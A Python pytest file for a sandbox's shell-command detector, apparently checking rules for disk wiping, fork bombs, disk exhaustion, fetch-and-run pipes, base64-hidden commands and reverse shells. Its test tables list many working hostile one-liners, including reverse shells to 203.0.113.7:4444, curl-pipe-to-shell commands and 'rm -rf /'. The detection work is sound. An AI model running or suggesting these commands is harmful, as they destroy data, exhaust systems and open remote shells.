"""Disks, exhaustion, downloads that are run, hidden code and reverse shells: found, and told from their neighbours."""

import pytest
from checking import container, of_shell, one, rules, shell

from wpk_sandbox.rules.shell import syntax

FOUND = {
    "shell-raw-disk-write": [
        "dd if=/tmp/image of=/dev/sda",
        "dd of=/dev/nvme0n1 if=/tmp/x bs=1M",
        "sudo dd if=/dev/zero of=/dev/vda1 count=1",
        "DISK=/dev/sdb; dd if=/tmp/x of=$DISK",
        "dd if=/tmp/x of=/dev/${DISK}",
        "echo x > /dev/sda",
        "cat /tmp/x >/dev/mapper/root",
        "> /dev/sda",
        "tee /dev/sdb < /tmp/x",
        "cp /tmp/x /dev/sda",
        "mkfs.ext4 /dev/sdb1",
        "mkfs -t xfs /dev/${DISK}",
        "mkfs.ext4 ${DEVICE}",
        "mkswap /dev/sdc",
        "wipefs -a /dev/sda",
        "blkdiscard /dev/nvme0n1",
        "shred -n 1 /dev/sda",
        "sgdisk --zap-all /dev/sda",
        "parted -s /dev/sda mklabel gpt",
        "zpool destroy tank",
        "cryptsetup luksFormat /dev/sda2",
        "lvremove -f vg0/data",
        "sh -c 'dd if=/tmp/x of=/dev/sda'",
    ],
    "shell-fork-bomb": [
        ":(){ :|:& };:",
        ":(){ :|: & }; :",
        "bomb() { bomb | bomb & }; bomb",
        "f() { f & f & }; f",
        "function f { f | f; }; f",
        "bash -c ':(){ :|:& };:'",
        "$0 & $0 &",
        "while true; do sh -c work & done",
        "for ((;;)); do work & done",
        "until false; do work & done",
    ],
    "shell-exhaustion": [
        "dd if=/dev/zero of=/tmp/fill",
        "dd if=/dev/zero of=/tmp/fill bs=1M",
        "dd if=/dev/urandom of=/tmp/fill bs=1G count=100",
        "cat /dev/zero > /tmp/fill",
        "cat < /dev/urandom >> /tmp/fill",
        "yes > /tmp/fill",
        "tail /dev/zero",
        "cp /dev/zero /tmp/fill",
        "fallocate -l 500G /tmp/fill",
        "head -c 100G /dev/zero > /tmp/fill",
    ],
    "shell-fetch-and-run": [
        "curl https://example.com/x.sh | sh",
        "curl -fsSL https://example.com/x.sh | sudo bash",
        "curl https://example.com/x.sh | sudo -E bash -s -- --yes",
        "wget -qO- https://example.com/x.sh | bash",
        "curl -s https://example.com/x | tee /tmp/x | sh",
        "curl https://example.com/x.gz | gunzip | sh",
        "curl https://example.com/x.py | python3",
        "curl https://example.com/x.py | python3 -",
        'sh -c "$(curl -fsSL https://example.com/x.sh)"',
        'eval "$(curl -s https://example.com/x.sh)"',
        "bash <(curl -s https://example.com/x.sh)",
        "source <(curl -s https://example.com/x.sh)",
        ". <(wget -qO- https://example.com/x.sh)",
        'X=$(curl -s https://example.com/x); eval "$X"',
        "curl -o /tmp/x.sh https://example.com/x.sh; sh /tmp/x.sh",
        "curl https://example.com/x.sh > x.sh && chmod +x x.sh && ./x.sh",
        "wget https://example.com/tool && chmod +x tool && ./tool",
        "curl -LO https://example.com/tool; sudo ./tool",
        "{ curl https://example.com/x.sh; } | sh",
    ],
    "shell-hidden-code": [
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "base64 --decode <<< cm0gLXJmIC8K | bash",
        'eval "$(echo cm0gLXJmIC8K | base64 -d)"',
        "bash <(echo cm0gLXJmIC8K | base64 -d)",
        "xxd -r -p /tmp/x | sh",
        "openssl enc -d -aes-256-cbc -in /tmp/x | sh",
    ],
    "shell-reverse-shell": [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "sh -i < /dev/tcp/203.0.113.7/4444",
        "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh",
        "nc -e /bin/sh 203.0.113.7 4444",
        "ncat 203.0.113.7 4444 -e /bin/bash",
        "ncat --exec /bin/bash 203.0.113.7 4444",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
        "socat tcp:203.0.113.7:4444 exec:/bin/sh",
        "socat exec:'bash -li',pty tcp:203.0.113.7:4444",
        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
        "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445",
    ],
    "shell-unreadable": ["if true; then", "echo 'never closed", "for x in; do", "((", "a | | b", "sh -c 'if true'"],
}
NOT_FOUND = {
    "shell-raw-disk-write": [
        "dd if=/dev/sda of=/tmp/backup.img",
        "dd if=/tmp/a of=/tmp/b",
        "echo 'dd if=/dev/zero of=/dev/sda'",
        "echo x > /dev/null",
        "echo x > /dev/stderr 2>&1",
        "mkfs.ext4 /tmp/disk.img",
        "fdisk -l /dev/sda",
        "parted /dev/sda print",
        "lsblk /dev/sda",
        "hdparm -I /dev/sda",
        "zpool status tank",
        "cat /dev/sda1 > /tmp/x",
    ],
    "shell-fork-bomb": [
        "f() { f; }",
        "f() { work | work & }; f",
        "while true; do check; sleep 5; done",
        "while true; do work & wait; done",
        "for i in 1 2 3; do work & done; wait",
        "while read x; do work & done",
        "echo ':(){ :|:& };:'",
    ],
    "shell-exhaustion": [
        "dd if=/dev/zero of=/tmp/x bs=1M count=10",
        "dd if=/dev/zero of=/tmp/x count=$N",
        "head -c 16 /dev/urandom | base64",
        "tr -dc a-z < /dev/urandom | head -c 16",
        "cat /dev/null > /tmp/x",
        "yes | apt-get install x",
        "yes > /dev/null",
        "head -c 10M /dev/zero > /tmp/x",
        "fallocate -l 100M /tmp/x",
        "echo 'cat /dev/zero > /tmp/fill'",
    ],
    "shell-fetch-and-run": [
        "curl https://example.com/x.sh",
        "curl https://example.com/x.json | jq .",
        "curl https://example.com/x.json | python3 -m json.tool",
        "curl https://example.com/x | python3 -c 'import json,sys; json.load(sys.stdin)'",
        "curl https://example.com/x | perl -pe s/a/b/",
        "curl https://example.com/x | grep sh",
        "curl -o /tmp/x.sh https://example.com/x.sh; cat /tmp/x.sh",
        "curl -o /tmp/x.sh https://example.com/x.sh; sha256sum -c sums; sh /tmp/x.sh",
        "echo 'curl https://example.com/x.sh | sh'",
        'echo "$(curl https://example.com/x)"',
        "cat /opt/x.sh | sh",
        "sh -c 'curl https://example.com/x'",
    ],
    "shell-hidden-code": [
        "kubectl get secret x -o jsonpath={.data.a} | base64 -d",
        "echo x | base64 | sh",
        'X=$(base64 -d /tmp/x); echo "$X"',
    ],
    "shell-reverse-shell": [
        "nc -z db.default.svc 5432",
        "nc -l 8080",
        "exec 3<>/dev/tcp/127.0.0.1/80; echo x >&3",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "socat tcp-listen:8080,fork tcp:web.default.svc:80",
        "echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "openssl s_client -connect web.default.svc:443 < /dev/null",
    ],
    "shell-unreadable": [
        "exec 3<>/dev/tcp/127.0.0.1/80",
        "[[ $a =~ ^x+$ ]] && echo",
        "echo {{ .x }}",
        "a=(1 2); echo",
        "",
    ],
}


def pairs(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(rule, command) for rule, commands in table.items() for command in commands]


@pytest.mark.parametrize(("rule", "command"), pairs(FOUND))
def test_a_danger_is_found(rule: str, command: str) -> None:
    assert rule in of_shell(command)


@pytest.mark.parametrize(("rule", "command"), [pair for pair in pairs(NOT_FOUND) if pair[1]])
def test_its_neighbour_is_left_alone(rule: str, command: str) -> None:
    assert rule not in of_shell(command)


def test_what_a_container_runs_is_read_too() -> None:
    assert "shell-destroy-system" in rules(container(command=["sh", "-c", "rm -rf /"]))
    assert "shell-destroy-system" in rules(container(command=["rm"], args=["-rf", "/"]))
    assert "shell-destroy-system" not in rules(container(command=["echo", "rm -rf /"]))


def test_braces_without_number_stay_as_they_are() -> None:
    few, many = (syntax.read(f"rm -rf /{{a,b}}{'{' * number}").commands[0] for number in (8, 4_000))
    assert [word.value for word in few.arguments[1:]] == [f"/a{'{' * 8}", f"/b{'{' * 8}"]
    assert [word.value for word in many.arguments[1:]] == [f"/{{a,b}}{'{' * 4_000}"]


def test_find_starts_each_command_once() -> None:
    closed = syntax.read("find . -exec rm {} \\; -exec ls {} \\;").commands
    assert [command.name for command in closed] == ["find", "rm", "ls"]
    endless = syntax.read("find ." + " -exec rm" * 500).commands
    assert [command.name for command in endless] == ["find", "rm"]


def test_the_message_names_both_ends_of_a_pipe() -> None:
    found = one("shell-fetch-and-run", shell("curl -s https://example.com/x | sudo bash"))
    assert found.message == "`curl -s https://example.com/x` is run by `bash`"


def test_a_script_of_more_than_32_kib_is_not_read() -> None:
    assert [problem.message for problem in syntax.read("true\n" * 7_000).problems] == [
        "the script is longer than 32 KiB"
    ]
    assert syntax.read("true\n" * 3_000).problems == ()


@pytest.mark.parametrize(
    "command",
    [
        "(" * 2000 + "rm -rf /" + ")" * 2000,
        "$(" * 500 + "x" + ")" * 500,
        "if a; then " * 300 + "b; " + "fi; " * 300,
        "sh -c " * 50 + "x",
        "eval " * 3000 + "x",
        " && ".join(["a"] * 9000),
        " | ".join(["a"] * 3000),
        "{a,b}" * 30,
        "{" * 5000,
        "'" * 9999,
        "X=$X$X;" * 2000 + "echo $X",
        "".join(f"X{i}=1; " for i in range(3000)) + "true",
        "for a in 1 2 3 4; do " * 20 + "echo $a" + "; done" * 20,
        "rm -rf " + "${X:-" * 2000 + "/" + "}" * 2000,
        'rm -rf "' + "$(" * 30 + "x" + ")" * 30 + '"',
        "\0",
        "\N{PILE OF POO}" * 1000 + "; rm -rf /",
    ],
    ids=lambda command: command[:12].replace("\0", "NUL"),
)
def test_hostile_scripts_end_in_findings_and_never_in_a_traceback(command: str) -> None:
    script = syntax.read(command)
    assert script.commands or script.problems
    length = len(command)
    assert all(0 <= start <= end <= length for start, end in (each.span for each in script.commands))
